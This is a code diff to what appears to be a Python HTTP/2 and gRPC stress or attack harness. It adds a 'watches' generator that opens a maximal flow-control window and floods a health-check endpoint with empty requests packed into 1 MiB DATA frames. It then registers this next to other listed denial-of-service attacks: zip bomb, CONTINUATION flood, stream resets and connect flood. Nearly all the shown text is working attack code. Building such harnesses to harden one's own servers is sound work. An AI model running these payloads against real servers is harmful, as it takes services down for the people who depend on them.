@@ -12,6 +12,7 @@ import argparse
 import contextlib
 import dataclasses
 import functools
+import itertools
 import multiprocessing
 import socket
 import statistics
@@ -147,6 +148,16 @@ def made_you_reset() -> Pieces:
     return streams(lambda number: open_stream(number, WATCH) + pack_frame(8, 0, number, bytes(4)))
 
 
+def watches(number: int = 40) -> Pieces:
+    """Send many empty requests of a health call in each of few large DATA frames, a few at a time."""
+    window = pack_frame(4, 0, 0, struct.pack(">HI", 4, (1 << 31) - 1)) + pack_frame(8, 0, 0, struct.pack(">I", 1 << 30))
+    for stream in itertools.count(1, 2):
+        yield (window if stream == 1 else b"") + open_stream(stream, WATCH)
+        yield pack_frame(0, 0, stream, bytes(_MIB))[:9]
+        yield from itertools.repeat(bytes(5 * number), _MIB // (5 * number))
+        yield bytes(_MIB % (5 * number))
+
+
 ATTACKS: dict[str, Callable[[], Pieces]] = {
     "announced 512 MiB x4": announced,
     "announced 511 MiB on health": lambda: announced("/grpc.health.v1.Health/Check", 511 * _MIB),
@@ -164,6 +175,7 @@ ATTACKS: dict[str, Callable[[], Pieces]] = {
     "CONTINUATION": continuation,
     "zip bomb 500 MiB": zip_bomb,
     "tiny requests, zero window": tiny_requests,
+    "empty requests in large frames, health": watches,
     "connect flood": lambda: iter([HELLO]),
 }
 
